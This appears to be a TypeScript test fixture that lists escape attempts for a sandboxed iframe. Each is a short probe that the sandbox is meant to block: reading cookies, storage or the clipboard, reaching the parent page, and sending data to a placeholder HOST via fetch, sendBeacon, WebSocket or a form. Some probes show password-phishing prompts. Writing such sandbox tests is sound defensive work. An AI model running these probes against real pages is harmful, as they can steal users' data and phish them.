/** Something code in the frame may try; it must not get what it wants. */
interface Escape {
  name: string;
  /** Statements of an async function; returning anything but `undefined`, `null` or `false` is a success. */
  code: string;
}

/** Every way out that the frame must not have. `HOST` and `PORT` stand for a host that is not ours. */
export const escapes: readonly Escape[] = [
  { name: 'read cookies', code: 'return document.cookie;' },
  { name: 'write cookies', code: "document.cookie = 'a=1'; return true;" },
  { name: 'read localStorage', code: 'return localStorage.length;' },
  { name: 'read sessionStorage', code: 'return sessionStorage.length;' },
  {
    name: 'open IndexedDB',
    code: `return new Promise((resolve, reject) => {
      const asked = indexedDB.open('a');
      asked.onsuccess = () => resolve('open');
      asked.onerror = () => reject(asked.error);
    });`,
  },
  { name: 'open caches', code: "return caches.open('a');" },
  { name: 'open the private file system', code: 'return navigator.storage.getDirectory();' },
  { name: 'ask for storage access', code: 'return document.requestStorageAccess().then(() => 1);' },
  { name: "read the page's document", code: 'return parent.document.title;' },
  { name: "read the page's address", code: 'return parent.location.href;' },
  { name: "read the page's variables", code: 'return parent.navigation;' },
  { name: 'reach the element of the frame', code: 'return window.frameElement;' },
  { name: 'navigate the page', code: "top.location = 'HOST/top'; return true;" },
  { name: 'replace the page', code: "parent.location.replace('HOST/replace'); return true;" },
  {
    name: 'click a link to the top',
    code: `const link = document.createElement('a');
      link.target = '_top';
      link.href = 'HOST/link';
      document.body.append(link);
      link.click();
      return undefined;`,
  },
  { name: 'open a window', code: "return window.open('HOST/popup');" },
  {
    name: 'click a link to a new window',
    code: `const link = document.createElement('a');
      link.target = '_blank';
      link.href = 'HOST/blank';
      document.body.append(link);
      link.click();
      return undefined;`,
  },
  { name: 'alert', code: "return alert('Your password, please');" },
  { name: 'confirm', code: "return confirm('Sure?');" },
  { name: 'prompt', code: "return prompt('Password');" },
  { name: 'print', code: 'return print();' },
  { name: 'fetch from this site', code: "return fetch('/').then((it) => it.status);" },
  { name: 'fetch from elsewhere', code: "return fetch('HOST/fetch').then((it) => it.status);" },
  {
    name: 'fetch without reading',
    code: "return fetch('HOST/opaque', { mode: 'no-cors' }).then((it) => it.type);",
  },
  {
    name: 'XMLHttpRequest',
    code: `return new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.open('GET', 'HOST/xhr');
      request.onload = () => resolve(request.status);
      request.onerror = () => reject(new Error('refused'));
      request.send();
    });`,
  },
  {
    name: 'WebSocket',
    code: `return new Promise((resolve, reject) => {
      const socket = new WebSocket('ws://127.0.0.1:PORT/socket');
      socket.onopen = () => resolve('open');
      socket.onerror = () => reject(new Error('refused'));
    });`,
  },
  {
    name: 'EventSource',
    code: `return new Promise((resolve, reject) => {
      const source = new EventSource('HOST/events');
      source.onopen = () => resolve('open');
      source.onerror = () => reject(new Error('refused'));
    });`,
  },
  { name: 'sendBeacon', code: "navigator.sendBeacon('HOST/beacon', 'x'); return undefined;" },
  {
    name: 'WebRTC',
    code: `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:PORT' }] });
      peer.createDataChannel('a');
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((resolve) => setTimeout(resolve, 1000));
      return peer.iceGatheringState === 'new' ? undefined : peer.iceGatheringState;`,
  },
  {
    name: 'WebTransport',
    code: "return new WebTransport('https://127.0.0.1:PORT/transport').ready.then(() => 1);",
  },
  {
    name: 'worker from a blob',
    code: `return new Promise((resolve, reject) => {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
      worker.onmessage = () => resolve('running');
      worker.onerror = () => reject(new Error('refused'));
    });`,
  },
  { name: 'shared worker', code: "new SharedWorker('data:text/javascript,1'); return true;" },
  {
    name: 'service worker',
    code: "return navigator.serviceWorker.register('/_assets/frame/x.js').then(() => 1);",
  },
  { name: 'document.domain', code: "document.domain = '127.0.0.1'; return true;" },
  {
    name: 'submit a form',
    code: `const form = document.createElement('form');
      form.action = 'HOST/form';
      form.method = 'post';
      document.body.append(form);
      form.submit();
      return undefined;`,
  },
  {
    name: 'import from elsewhere',
    // Compiled imports only reach the offered libraries; this one is the browser's own.
    code: `return Function("return import('HOST/module.js')")().then(() => 1);`,
  },
  {
    name: 'script element from a data address',
    code: `return new Promise((resolve, reject) => {
      const script = document.createElement('script');
      script.src = 'data:text/javascript,0';
      script.onload = () => resolve('ran');
      script.onerror = () => reject(new Error('refused'));
      document.head.append(script);
    });`,
  },
  {
    name: 'another base address',
    code: `const base = document.createElement('base');
      base.href = 'HOST/';
      document.head.append(base);
      return document.baseURI.startsWith('HOST') || undefined;`,
  },
  {
    name: 'image from elsewhere',
    code: `return new Promise((resolve, reject) => {
      const image = new Image();
      image.onload = () => resolve('loaded');
      image.onerror = () => reject(new Error('refused'));
      image.src = 'HOST/image.png';
    });`,
  },
  {
    name: 'style sheet and font from elsewhere',
    code: `const style = document.createElement('style');
      style.textContent =
        "@import 'HOST/sheet.css'; @font-face { font-family: a; src: url(HOST/font.woff2); }" +
        " p { font-family: a; background: url(HOST/background.png); }";
      document.head.append(style);
      await new Promise((resolve) => setTimeout(resolve, 300));
      style.remove();
      return undefined;`,
  },
  {
    name: 'prefetch',
    code: `const link = document.createElement('link');
      link.rel = 'prefetch';
      link.href = 'HOST/prefetch';
      document.head.append(link);
      return undefined;`,
  },
  {
    name: 'preconnect',
    code: `const link = document.createElement('link');
      link.rel = 'preconnect';
      link.href = 'HOST';
      document.head.append(link);
      return undefined;`,
  },
  {
    name: 'WebRTC from a frame of its own',
    code: `const frame = document.createElement('iframe');
      frame.srcdoc = '<script>parent.postMessage(typeof RTCPeerConnection, "*")</' + 'script>';
      const answer = new Promise((resolve, reject) => {
        addEventListener('message', ({ data }) => resolve(data));
        setTimeout(reject, 300, new Error('silent'));
      });
      document.body.append(frame);
      return answer.finally(() => frame.remove());`,
  },
  {
    name: 'frame from elsewhere',
    code: `const frame = document.createElement('iframe');
      frame.src = 'HOST/frame';
      document.body.append(frame);
      await new Promise((resolve) => setTimeout(resolve, 300));
      frame.remove();
      return undefined;`,
  },
  {
    name: 'a fresh window in a frame of its own',
    code: `const frame = document.createElement('iframe');
      document.body.append(frame);
      try {
        return frame.contentWindow.eval('1');
      } finally {
        frame.remove();
      }`,
  },
  { name: 'read the clipboard', code: 'return navigator.clipboard.readText();' },
  { name: 'write the clipboard', code: "return navigator.clipboard.writeText('x').then(() => 1);" },
  {
    name: 'full screen',
    code: 'return document.documentElement.requestFullscreen().then(() => 1);',
  },
  {
    name: 'location of the reader',
    code: `return new Promise((resolve, reject) => {
      navigator.geolocation.getCurrentPosition(resolve, reject);
    });`,
  },
  { name: 'camera', code: 'return navigator.mediaDevices.getUserMedia({ video: true });' },
  {
    name: 'download',
    code: `const link = document.createElement('a');
      link.download = 'x.txt';
      link.href = 'data:text/plain,x';
      document.body.append(link);
      link.click();
      return undefined;`,
  },
];
